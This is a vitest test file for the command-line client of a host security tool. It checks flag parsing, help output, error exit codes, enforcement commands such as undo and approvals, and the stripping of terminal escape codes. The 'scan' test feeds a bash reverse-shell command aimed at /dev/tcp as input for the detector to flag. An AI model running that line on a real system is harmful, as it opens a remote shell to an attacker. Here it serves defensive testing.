import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { COMMANDS, findCommand } from '../../src/cli/commands.ts';
import { SecError } from '../../src/domain/errors.ts';
import { type Bench, createBench } from '../daemon/server-kit.ts';
import { sampleAlert, sampleApproval, sampleLease, sampleRecord, sampleStatus } from '../tui/samples.ts';
import { runHere } from './run-here.ts';

let bench: Bench;
beforeAll(async () => {
  bench = await createBench();
});
afterAll(() => bench.close());
const onSocket = (): readonly string[] => ['--socket', bench.socketPath];
const lastInput = (): unknown => bench.calls.at(-1)?.input;

describe('flags', () => {
  beforeEach(() => bench.answer('alerts', async () => ({ alerts: [], total: 0 })));

  test.each([
    ['after the command', ['alerts', '--limit', '7', '--module', 'auth_fortress']],
    ['before it', ['--limit', '7', '--module', 'auth_fortress', 'alerts']],
    ['around it', ['--limit', '7', 'alerts', '--module=auth_fortress']],
    ['with an equals sign', ['--limit=7', '--module=auth_fortress', 'alerts']],
  ])('are read %s', async (_where, words) => {
    const ran = await runHere(...words, ...onSocket());
    expect(ran).toEqual({ code: 0, out: 'no alerts\n', err: '' });
    expect(lastInput()).toMatchObject({ query: { limit: 7, module: 'auth_fortress' } });
  });

  test('a value that is named like a command is a value', async () => {
    await runHere('--module', 'status', 'alerts', ...onSocket());
    expect(lastInput()).toMatchObject({ query: { module: 'status' } });
  });

  test.each([
    ['an unknown flag', ['alerts', '--limt', '3'], /unknown flag --limt of alerts; did you mean --limit\?/],
    ['an unknown flag in front', ['--jsn', 'status'], /unknown flag --jsn of status; did you mean --json\?/],
    ['a flag of another command', ['status', '--verify'], /unknown flag --verify of status/],
    ['a hostile flag', ['status', '--\u001b[2J'], /unknown flag --␛\[2J of status/],
    ['a number that is none', ['alerts', '--limit', 'many'], /--limit of alerts: expected a whole number/],
    ['a number that is not whole', ['alerts', '--limit', '1.5'], /--limit of alerts: expected a whole number/],
    ['zero', ['alerts', '--limit', '0'], /--limit of alerts: expected a whole number/],
    ['a value that is missing at the end', ['alerts', '--limit'], /--limit of alerts: a value is missing/],
    ['a value that is missing in the middle', ['alerts', '--limit', '--module', 'x'], /--limit of alerts: a value is missing/],
    ['an empty value', ['alerts', '--socket', ''], /--socket of alerts: a value is missing/],
    ['a flag twice', ['alerts', '--limit', '1', '--limit', '2'], /only be set once/],
    ['a severity that is none', ['alerts', '--severity', 'huge'], /--severity: expected INFO, LOW, MEDIUM, HIGH or CRITICAL, got huge/],
    ['a status that is none', ['alerts', '--status', 'gone'], /--status: expected OPEN/],
    ['a word too many', ['status', 'now'], /status: one word too many: now/],
    ['a word too many for a verb', ['enforce', 'cleanup', 'please'], /enforce cleanup: one word too many: please/],
    ['an unknown command', ['stats'], /unknown command stats; did you mean status\?/],
    ['a hostile command', ['\u001b[2J\u202e'], /unknown command ␛\[2J\\u\{202e\}/],
    ['a name that every object has', ['constructor'], /unknown command constructor/],
    ['an unknown verb', ['enforce', 'histroy'], /enforce histroy: expected .*did you mean history\?/],
    ['a verb that every object has', ['enforce', 'toString'], /enforce toString: expected/],
    ['an alert verb that every object has', ['alerts', 'constructor', 'abcd'], /alerts constructor: expected get/],
    ['an id that is missing', ['alerts', 'get'], /alerts get: an id is missing/],
    ['ids in plenty', ['alerts', 'get', 'aaaa', 'bbbb'], /alerts get: one id, got 2/],
    ['a mode that is none', ['enforce', 'dry-run', 'maybe'], /dry-run: expected on or off, got maybe/],
    ['a preset that is none', ['enforce', 'preset', 'strct'], /preset strct: expected .*did you mean strict\?/],
    ['an approval without an id', ['enforce', 'approvals', 'approve'], /approvals approve: an id is missing/],
    ['a log level that is none', ['daemon', '--log-level', 'loud'], /--log-level: expected debug, info, warn, error, got loud/],
    ['an undo of everything', ['enforce', 'undo'], /undo: exactly one id/],
    ['an undo of one thing and of many', ['enforce', 'undo', 'aaaa', '--since', '10m'], /undo: exactly one id/],
    ['a rehearsal of one undo', ['enforce', 'undo', 'aaaa', '--dry-run'], /undo: exactly one id/],
    ['a time that is none', ['enforce', 'undo', '--since', 'lunch'], /--since: expected 1s to 366d, got lunch/],
    ['an undo of a preset that is none', ['enforce', 'undo', '--preset', 'strct'], /preset strct: expected .*did you mean strict\?/],
    ['help for nothing', ['help', 'stats'], /unknown command stats/],
  ])('%s is an error of use: exit 2, what is wrong, and a hint', async (_what, words, message) => {
    const { code, out, err } = await runHere(...words);
    expect(code).toBe(2);
    expect(out).toBe('');
    expect(err).toMatch(message);
    expect(err).toMatch(/\n {2}code: SEC_USAGE\n {2}hint: /);
  });

  test('what comes after -- is text, whatever it looks like', async () => {
    for (const text of ['--help', '--json', '-1', '--no-such-flag']) {
      const { code, out, err } = await runHere('scan', '--as', 'http', '--', text);
      expect({ code, out, err }).toEqual({ code: 0, out: 'clean\n', err: '' });
    }
  });

  test('numbers among the words stay as they are written', async () => {
    bench.answer('alert', async () => sampleAlert(1));
    await runHere('alerts', 'get', '0123', ...onSocket());
    expect(lastInput()).toMatchObject({ params: { id: '0123' } });
    await runHere('alerts', 'get', '1e30', ...onSocket());
    expect(lastInput()).toMatchObject({ params: { id: '1e30' } });
  });
});

describe('help', () => {
  test.each([[[]], [['help']], [['--help']], [['-h']]])('%j lists every command', async (words) => {
    const { code, out } = await runHere(...words);
    expect(code).toBe(0);
    for (const command of COMMANDS) expect(out).toContain(`  ${command.name.padEnd(9)} ${command.summary}`);
  });

  test.each(COMMANDS.map((command) => [command]))('$name tells its use and every flag, in both ways, and runs nothing', async (command) => {
    const { out, code } = await runHere('help', command.name);
    expect(code).toBe(0);
    expect((await runHere(command.name, '--help')).out).toBe(out);
    expect(out).toContain(command.summary);
    for (const usage of command.usage) expect(out).toContain(usage);
    for (const name of Object.keys(command.flags)) expect(out).toContain(`--${name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)}`);
  });

  test('names are found by alias too, and no two are alike', () => {
    expect(findCommand('up')?.name).toBe('daemon');
    const names = COMMANDS.flatMap((command) => [command.name, ...(command.aliases ?? [])]);
    expect(new Set(names).size).toBe(names.length);
  });

  test('a flag takes a value in all commands or in none: it is read before the command is known', () => {
    const types = new Map<string, boolean>();
    for (const command of COMMANDS) {
      for (const [name, { type }] of Object.entries(command.flags)) {
        expect(types.get(name) ?? type !== 'boolean', `${command.name} ${name}`).toBe(type !== 'boolean');
        types.set(name, type !== 'boolean');
      }
    }
  });
});

describe('failures', () => {
  test('of the daemon are told with code and hint and end with the exit code of the catalogue', async () => {
    bench.answer('status', () => Promise.reject(new SecError('SEC_TIMEOUT', 'the store is slow')));
    const { code, out, err } = await runHere('status', ...onSocket());
    expect(code).toBe(17);
    expect(out).toBe('');
    expect(err).toBe('error: It took too long. the store is slow\n  code: SEC_TIMEOUT\n  hint: Try again; see `1sec status` for what is slow.\n');
  });

  test('with --json are one object on standard error, wherever the flag stands', async () => {
    bench.answer('status', () => Promise.reject(new SecError('SEC_TIMEOUT', 'the store is slow')));
    for (const words of [
      ['--json', 'status'],
      ['status', '--json'],
      ['status', '--jsn', '--json'],
    ]) {
      const { code, out, err } = await runHere(...words, ...onSocket());
      expect(code).toBeGreaterThan(1);
      expect(out).toBe('');
      expect(JSON.parse(err)).toMatchObject({ code: expect.stringMatching(/^SEC_/), hint: expect.stringMatching(/\.$/), error: expect.any(String) });
    }
  });

  test('to reach a daemon name the socket', async () => {
    expect(await runHere('status', '--socket', '/nonexistent/s')).toMatchObject({ code: 4, err: expect.stringContaining('/nonexistent/s') });
  });

  test.each([
    [
      'an approval whose action failed',
      ['enforce', 'approvals', 'approve', 'aaaa'],
      'approve',
      sampleApproval(1, { state: 'failed', result: 'still there: 4001' }),
      10,
    ],
    [
      'an approval that no longer applied',
      ['enforce', 'approvals', 'approve', 'aaaa'],
      'approve',
      sampleApproval(1, { state: 'void', result: 'allow-listed' }),
      8,
    ],
    [
      'an undo that was not verified',
      ['enforce', 'undo', 'aaaa'],
      'undo',
      sampleRecord(1, { kind: 'undo', verification: 'failed', reason: 'still in the set' }),
      10,
    ],
    [
      'an undo of many of which one failed',
      ['enforce', 'undo', '--since', '10m'],
      'undoMatching',
      { dry_run: false, matching: [], undone: [], failed: [{ lease_id: sampleLease(1).id, action: 'block_ip', target: '203.0.113.7', reason: 'still there' }] },
      10,
    ],
    ['a history that is broken', ['enforce', 'history', '--verify'], 'verifyHistory', { intact: false, records: 9, broken_at: 4, problem: 'hash' }, 15],
    ['a cleanup that left something', ['enforce', 'cleanup'], 'cleanup', { removed: [], left: ['block_ip: not permitted'] }, 19],
  ] as const)('%s ends with its own code, in words and in JSON', async (_what, words, route, reply, exit) => {
    bench.answer(route, async () => reply as never);
    expect((await runHere(...words, ...onSocket())).code).toBe(exit);
    const { code, out, err } = await runHere(...words, ...onSocket(), '--json');
    expect(code).toBe(exit);
    expect(JSON.parse(out)).toEqual(JSON.parse(JSON.stringify(reply)));
    expect(JSON.parse(err)).toHaveProperty('hint');
  });
});

describe('answers', () => {
  const ALERT = sampleAlert(1, { title: 'login of \u001b[31mroot\u202e' });
  beforeAll(() => {
    bench.answer('status', async () => sampleStatus({ limits: ['Program starts are not seen: no permission.'] }));
    bench.answer('alerts', async () => ({ alerts: [ALERT], total: 1 }));
    bench.answer('alert', async () => ALERT);
    bench.answer('setAlertStatus', async () => ({ ...ALERT, status: 'RESOLVED' }));
    bench.answer('modules', async () => ({ modules: [], total: 0 }));
    bench.answer('policies', async () => ({ policies: [] }));
    bench.answer('leases', async () => ({ leases: [sampleLease(1)], total: 1 }));
    bench.answer('history', async () => ({ records: [sampleRecord(1, { reason: 'typed \u001b]0;x\u0007' })], count: 1 }));
    bench.answer('verifyHistory', async () => ({ intact: true, records: 3, head: 'abc' }));
    bench.answer('pendingApprovals', async () => ({ approvals: [sampleApproval(1, { title: 'bash \u009b2J' })], total: 1 }));
    bench.answer('approvalHistory', async () => ({ approvals: [], total: 0 }));
    bench.answer('approve', async () => sampleApproval(1, { state: 'done' }));
    bench.answer('reject', async () => sampleApproval(1, { state: 'rejected' }));
    bench.answer('undo', async () => sampleRecord(1, { kind: 'undo' }));
    bench.answer('undoMatching', async () => ({
      dry_run: false,
      matching: [sampleLease(1)],
      undone: [sampleRecord(1, { kind: 'undo', target: '203.0.113.7' })],
      failed: [],
    }));
    bench.answer('dryRun', async () => ({ dry_run: false, previous: true }));
    bench.answer('preset', async () => ({ preset: 'strict', previous: 'safe', applied: true, diff: ['preset: safe → strict'], policies: [] }));
    bench.answer('cleanup', async () => ({ removed: ['the firewall table'], left: [] }));
    bench.answer('enforceStatus', async () => ({
      enabled: true,
      dry_run: true,
      preset: 'safe',
      global_allow_list: [],
      protected: ['192.0.2.1'],
      actions: [{ action: 'block_ip', title: 'Block', risk: 'medium', privilege: 'root', reversible: true, available: false, reason: 'run as root' }],
      leases_active: 0,
      approvals_pending: 0,
      stats: { total_records: 0, repairs: 0 },
    }));
  });

  const COMMANDS_WITH_ANSWERS = [
    ['status'],
    ['alerts'],
    ['alerts', 'get', 'aaaa'],
    ['alerts', 'ack', 'aaaa'],
    ['alerts', 'resolve', 'aaaa', '--reason', 'done'],
    ['alerts', 'false-positive', 'aaaa'],
    ['modules'],
    ['enforce'],
    ['enforce', 'status'],
    ['enforce', 'policies'],
    ['enforce', 'leases'],
    ['enforce', 'history'],
    ['enforce', 'history', '--verify'],
    ['enforce', 'approvals'],
    ['enforce', 'approvals', 'history'],
    ['enforce', 'approvals', 'approve', 'aaaa'],
    ['enforce', 'approvals', 'reject', 'aaaa'],
    ['enforce', 'undo', 'aaaa'],
    ['enforce', 'rollback', 'aaaa'],
    ['enforce', 'undo', '--since', '10m', '--module', 'ransomware', '--preset', 'strict'],
    ['enforce', 'dry-run', 'off'],
    ['enforce', 'preset'],
    ['enforce', 'preset', 'strict', '--show'],
    ['enforce', 'preset', 'strict', '--dry-run'],
    ['enforce', 'preset', 'strict'],
    ['enforce', 'cleanup'],
  ];

  test.each(COMMANDS_WITH_ANSWERS.map((words) => [words]))('%j prints JSON when asked to', async (words) => {
    const { code, out, err } = await runHere(...words, '--json', ...onSocket());
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(JSON.parse(out)).toBeTypeOf('object');
  });

  test.each(COMMANDS_WITH_ANSWERS.map((words) => [words]))('%j prints lines that no outside text can break', async (words) => {
    const { code, out, err } = await runHere(...words, ...onSocket());
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out.length).toBeGreaterThan(3);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
  });

  test('a preview asks for a preview, and only a plain preset applies', async () => {
    await runHere('enforce', 'preset', 'strict', '--show', ...onSocket());
    expect(lastInput()).toMatchObject({ params: { name: 'strict' }, body: { preview: true } });
    await runHere('enforce', 'preset', 'strict', '--dry-run', ...onSocket());
    expect(lastInput()).toMatchObject({ body: { preview: true } });
    await runHere('enforce', 'preset', 'strict', '--reason', 'attack', ...onSocket());
    expect(lastInput()).toMatchObject({ body: { preview: false, reason: 'attack' } });
  });

  test('an undo of many asks for page after page, tells each and what failed, and asks nothing', async () => {
    const page = {
      dry_run: false,
      matching: [sampleLease(1)],
      undone: [sampleRecord(1, { kind: 'undo', action: 'block_ip', target: '203.0.113.7' })],
      failed: [],
    };
    const failed = [{ lease_id: sampleLease(2).id, action: 'block_ip' as const, target: '203.0.113.8', reason: 'still \u001b[2J there' }];
    const pages = [
      { ...page, next: 'aaaa' },
      { ...page, undone: [], failed },
    ];
    bench.answer('undoMatching', async () => pages.shift() ?? page);
    const { code, out, err } = await runHere('enforce', 'undo', '--since', '10m', '--module', 'ransomware', '--reason', 'wrong', ...onSocket());
    expect(lastInput()).toMatchObject({ body: { since_seconds: 600, module: 'ransomware', dry_run: false, reason: 'wrong', after: 'aaaa' } });
    expect(code).toBe(10);
    expect(out).toMatch(/ undone: block_ip 203\.0\.113\.7 /);
    expect(out).toMatch(/ not undone: block_ip 203\.0\.113\.8 \(still .*there\)/);
    expect(err).toContain('1 could not be undone, 1 were');
  });

  test('a rehearsal of it lists and changes nothing; where nothing fits that is said', async () => {
    bench.answer('undoMatching', async () => ({ dry_run: true, matching: [sampleLease(1)], undone: [], failed: [] }));
    const { code, out } = await runHere('enforce', 'undo', '--preset', 'strict', '--dry-run', ...onSocket());
    expect(lastInput()).toMatchObject({ body: { preset: 'strict', dry_run: true } });
    expect(code).toBe(0);
    expect(out).toMatch(/ would be undone: .*\n1 in force would be undone; nothing was changed\n$/);
    bench.answer('undoMatching', async () => ({ dry_run: false, matching: [], undone: [], failed: [] }));
    expect((await runHere('enforce', 'undo', '--since', '1h', ...onSocket())).out).toBe('nothing in force fits: nothing was undone\n');
  });

  test('status says what this host cannot see', async () => {
    expect((await runHere('status', ...onSocket())).out).toContain('! Program starts are not seen: no permission.');
  });

  test('enforce status says why an action is not available', async () => {
    expect((await runHere('enforce', ...onSocket())).out).toMatch(/block_ip +medium +no +root +yes +run as root/);
  });

  test('more alerts than were shown are hinted at', async () => {
    expect((await runHere('alerts', '--limit', '1', ...onSocket())).out).toContain('the newest 1; --limit N shows more');
    expect((await runHere('alerts', '--limit', '2', ...onSocket())).out).not.toContain('shows more');
  });
});

describe('configuration', () => {
  test('is checked without a daemon', async () => {
    expect(await runHere('config', '--validate', '--config', '/nonexistent.yaml')).toMatchObject({
      code: 11,
      err: expect.stringContaining('/nonexistent.yaml'),
    });
    expect(await runHere('config', '--validate', '--json', '--config', '/dev/null')).toMatchObject({ code: 0, out: expect.stringContaining('"valid":true') });
  });
});

describe('scan', () => {
  test('of one text ends with its verdict', async () => {
    expect(await runHere('scan', '--as', 'http', 'hello')).toMatchObject({ code: 0, out: 'clean\n' });
    expect((await runHere('scan', '--as', 'command', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')).code).toBe(21);
    expect(await runHere('scan', '--as', 'mail', 'hello')).toMatchObject({ code: 2 });
    expect(await runHere('scan', '--as', 'http')).toMatchObject({ code: 2, err: expect.stringContaining('a text to judge is missing') });
  });
});

test('no command ends the process it runs in: only the entry does', () => {
  const root = join(import.meta.dirname, '../../src/cli');
  const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.ts'));
  expect(files.filter((name) => readFileSync(join(root, name), 'utf8').includes('process.exit('))).toEqual(['main.ts']);
});
